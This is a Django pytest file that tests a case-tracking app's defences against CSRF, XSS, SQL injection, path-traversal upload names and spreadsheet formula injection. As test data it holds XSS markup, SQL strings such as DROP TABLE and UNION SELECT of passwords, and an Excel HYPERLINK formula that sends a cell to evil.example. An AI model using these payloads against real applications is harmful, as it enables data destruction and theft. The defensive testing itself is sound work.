"""Hardening on the riskiest inputs (issue #8 §4): CSRF on pages and API POSTs; XSS in search, filters,
rich text (item content, report text), upload file names; SQL injection in search and filters; Excel
cells beginning with = + - @ in exports. Covers what exists now: items, urging, org."""

from __future__ import annotations

import io
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from duban.core.lifecycle import Level
from duban.items import services
from duban.items.models import Attachment, Item, Report, Source
from tests.factories import District
from tests.web.conftest import received

pytestmark = pytest.mark.django_db

XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
SQLI = ["' OR '1'='1", "'; DROP TABLE items_item; --", '" OR 1=1 --', "%' UNION SELECT password FROM org_user --"]


def _no_raw_markup(html: str) -> None:
    assert "<script>alert" not in html
    assert "<img src=x onerror" not in html


# --- CSRF ------------------------------------------------------------------------------------------


def test_page_posts_need_the_csrf_token(district: District) -> None:
    item = received(district)
    client = Client(enforce_csrf_checks=True)
    client.force_login(district.ursula)
    before = Report.objects.count()
    response = client.post(f"/items/{item.pk}/actions/report_progress/", {"version": item.version, "text": "进展"})
    assert response.status_code == 403
    assert Report.objects.count() == before
    # The login form and the account pages too.
    assert Client(enforce_csrf_checks=True).post("/login/", {"username": "alice", "password": "x"}).status_code == 403
    assert client.post("/accounts/totp/begin/").status_code == 403


def test_api_posts_need_the_csrf_header(district: District) -> None:
    item = received(district)
    client = Client(enforce_csrf_checks=True)
    client.force_login(district.ursula)
    before = Report.objects.count()
    response = client.post(f"/api/items/{item.pk}/reports/progress", {"text": "进展"}, content_type="application/json")
    assert response.status_code == 403
    assert "CSRF" in response.json()["detail"]
    assert Report.objects.count() == before
    # With the token from the cookie in X-CSRFToken the same request goes through.
    client.get("/items/")
    token = client.cookies["csrftoken"].value
    ok = client.post(f"/api/items/{item.pk}/reports/progress", {"text": "进展"}, content_type="application/json",
                     headers={"X-CSRFToken": token})
    assert ok.status_code == 200, ok.content
    assert Report.objects.count() == before + 1


# --- XSS -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/items/", "/urging/tickets/", "/org/people/", "/org/units/"])
def test_search_and_filter_values_are_escaped_when_echoed(district: District, as_user: Any, path: str) -> None:
    client = as_user(district.alice)
    params = {"q": XSS, "state": XSS, "level": XSS, "source": XSS, "unit": XSS, "role": XSS, "category": XSS}
    response = client.get(path, params)
    assert response.status_code == 200
    _no_raw_markup(response.content.decode())
    htmx = client.get(path, params, headers={"HX-Request": "true", "HX-Target": "item-table"})
    _no_raw_markup(htmx.content.decode())


def test_rich_text_of_items_and_reports_is_escaped(district: District, as_user: Any) -> None:
    item = received(district, title=f"标题{XSS}", content=f"内容{XSS}")
    services.do_report_progress(actor=district.ursula, item=Item.objects.get(pk=item.pk), text=f"进展{XSS}")
    for client in (as_user(district.alice), as_user(district.ursula)):
        page = client.get(f"/items/{item.pk}/").content.decode()
        _no_raw_markup(page)
        assert "&lt;script&gt;" in page
        _no_raw_markup(client.get("/items/", {"q": "标题"}).content.decode())
        _no_raw_markup(client.get("/").content.decode())
    api = as_user(district.alice).get(f"/api/items/{item.pk}")
    assert api["Content-Type"].startswith("application/json")  # JSON, never rendered as HTML


def test_upload_file_names_cannot_inject_markup_or_paths(district: District, as_user: Any) -> None:
    item = received(district)
    client = as_user(district.ursula)
    evil = "..\\..\\etc\\<script>alert(1)</script> 报告.pdf"
    upload = SimpleUploadedFile(evil, b"%PDF-1.4 test", content_type="application/pdf")
    response = client.post(f"/items/{item.pk}/actions/attach/", {"version": Item.objects.get(pk=item.pk).version,
                                                                   "file": upload, "step_name": "<svg onload=1>"})
    assert response.status_code in (302, 303), response.content.decode()[:500]
    attachment = Attachment.objects.get(item=item)
    assert ".." not in attachment.file.name
    page = client.get(f"/items/{item.pk}/").content.decode()
    _no_raw_markup(page)
    assert "<svg onload" not in page and "<script>alert(1)" not in page
    download = client.get(f"/items/{item.pk}/attachments/{attachment.pk}/")
    disposition = download["Content-Disposition"]
    assert "<" not in disposition and "\n" not in disposition and "../" not in disposition
    assert download["X-Content-Type-Options"] == "nosniff"


def test_upload_types_and_sizes_are_checked(district: District, as_user: Any, settings: Any) -> None:
    item = received(district)
    client = as_user(district.ursula)
    for name, body in (("run.exe", b"MZ"), ("page.html", b"<html>"), ("noext", b"x"), ("empty.pdf", b"")):
        response = client.post(f"/items/{item.pk}/actions/attach/", {
            "version": Item.objects.get(pk=item.pk).version, "file": SimpleUploadedFile(name, body)})
        assert response.status_code == 422, name
    settings.DUBAN_ATTACHMENT_MAX_BYTES = 10
    response = client.post(f"/items/{item.pk}/actions/attach/", {
        "version": Item.objects.get(pk=item.pk).version, "file": SimpleUploadedFile("big.pdf", b"x" * 11)})
    assert response.status_code == 422 and "大小限制" in response.content.decode()
    assert not Attachment.objects.filter(item=item).exists()


# --- SQL injection ---------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", SQLI)
def test_sql_injection_in_search_and_filters_matches_nothing_and_breaks_nothing(
    district: District, as_user: Any, payload: str
) -> None:
    services.do_register(actor=district.alice, title="老旧小区改造", content="内容", source=Source.OTHER,
                         level=Level.GENERALLY_IMPORTANT)
    client = as_user(district.alice)
    for params in ({"q": payload}, {"state": payload}, {"level": payload}, {"source": payload}, {"unit": payload}):
        page = client.get("/items/", params)
        assert page.status_code == 200
        if "q" in params or "state" in params or "level" in params or "source" in params:
            assert "老旧小区改造" not in page.content.decode()
        api = client.get("/api/items/", params)
        assert api.status_code in (200, 422)
        if api.status_code == 200 and "unit" not in params:
            assert api.json()["items"] == []
    for path in ("/org/people/", "/urging/tickets/"):
        assert client.get(path, {"q": payload, "role": payload, "state": payload}).status_code == 200
    assert Item.objects.count() == 1  # nothing dropped


# --- Excel formulas --------------------------------------------------------------------------------


@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
def test_export_cells_beginning_with_formula_characters_are_text(district: District, as_user: Any, lead: str) -> None:
    formula = f'{lead}HYPERLINK("http://evil.example/?"&A1,"点击")'
    services.do_register(actor=district.alice, title=formula, content=f"{lead}1+1", source=Source.OTHER,
                         level=Level.GENERALLY_IMPORTANT)
    response = as_user(district.alice).get("/items/export.xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(formula in v for v in values)
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value  # no cell is a formula
            if isinstance(cell.value, str) and formula in cell.value:
                assert not cell.value.startswith(lead)


def test_text_postgresql_cannot_store_is_a_422_and_changes_nothing(district: District, as_user: Any) -> None:
    """NUL characters: SQLite stores them, PostgreSQL refuses (DataError) — the API answers 422 either way
    or stores the text; never a 500, never half a write (found by the schemathesis run on PostgreSQL)."""
    item = received(district)
    client = as_user(district.ursula)
    client.get("/items/")
    token = client.cookies["csrftoken"].value
    before = (Report.objects.count(), Item.objects.get(pk=item.pk).version)
    response = client.post(f"/api/items/{item.pk}/reports/progress", {"text": "进展\u0000附注"},
                           content_type="application/json", headers={"X-CSRFToken": token})
    assert response.status_code in (200, 422), response.content
    if response.status_code == 422:
        assert "无法保存" in response.json()["detail"]
        assert (Report.objects.count(), Item.objects.get(pk=item.pk).version) == before
